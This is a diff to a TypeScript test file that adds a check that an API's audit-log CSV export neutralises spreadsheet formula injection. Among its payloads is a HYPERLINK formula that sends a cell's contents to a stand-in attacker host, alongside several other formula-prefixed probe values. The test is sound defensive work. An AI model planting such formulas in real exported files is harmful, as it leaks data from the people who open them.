@@ -3,9 +3,38 @@ import { modelsDir } from '../media.ts'
 import { browserOf, signUp } from '../flows/control-stories.ts'
 import { setUpApp } from '../flows/authenticator.ts'
 import { there, type House } from '../flows/house.ts'
+import { readConfig } from '../../src/config.ts'
+import { openHouseStore } from '../../src/store-parts.ts'
 import { readRecords } from '../flows/records.ts'
 import { call, startHouseWithClients, tokenFor, type ApiAnswer } from './house-with-clients.ts'
 import { openDocument, type DocumentCheck } from './document.ts'
+
+/** What spreadsheets take for formulas (OWASP, CSV Injection), in every column that somebody else could fill. */
+async function writeFormulas({ dataDir }: Pick<House, 'dataDir'>): Promise<void> {
+  const { store } = await openHouseStore(readConfig({ MIEN_DATA_DIR: dataDir }), { clock: () => new Date() })
+  await store.audit.append({
+    type: 'formulas',
+    outcome: '@SUM(1)',
+    reason: '=HYPERLINK("https://bad.example/?"&A1,"look")',
+    clientId: '-2+3',
+    address: '+1',
+    acr: '\t=1+1',
+    detail: { '=1': '\r=1+1' },
+  })
+  await store.close()
+}
+
+/** RFC 4180. */
+function parse(csv: string): string[][] {
+  return csv
+    .trimEnd()
+    .split('\r\n')
+    .map((line) =>
+      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(([, quoted, plain = '']) =>
+        quoted === undefined ? plain : quoted.replaceAll('""', '"'),
+      ),
+    )
+}
 
 describe('The API of administration, for a program', function () {
   this.timeout(60_000)
@@ -187,5 +216,11 @@ describe('The API of administration, for a program', function () {
     const [head, ...lines] = text.trimEnd().split('\r\n')
     assert.equal(head, 'seq,at,type,outcome,reason,subject,client,address,acr,detail')
     for (const line of lines) assert.match(line, /^\d+,[\dTZ:.-]+,account_created,/)
+    await writeFormulas(there(house))
+    const { text: formulas } = await ask('exportEvents', '/audit.csv?type=formulas')
+    assert.match(formulas, /'=HYPERLINK/)
+    const rows = parse(formulas)
+    assert.lengthOf(rows, 2)
+    for (const cell of rows.flat()) assert.notMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/, cell)
   })
 })
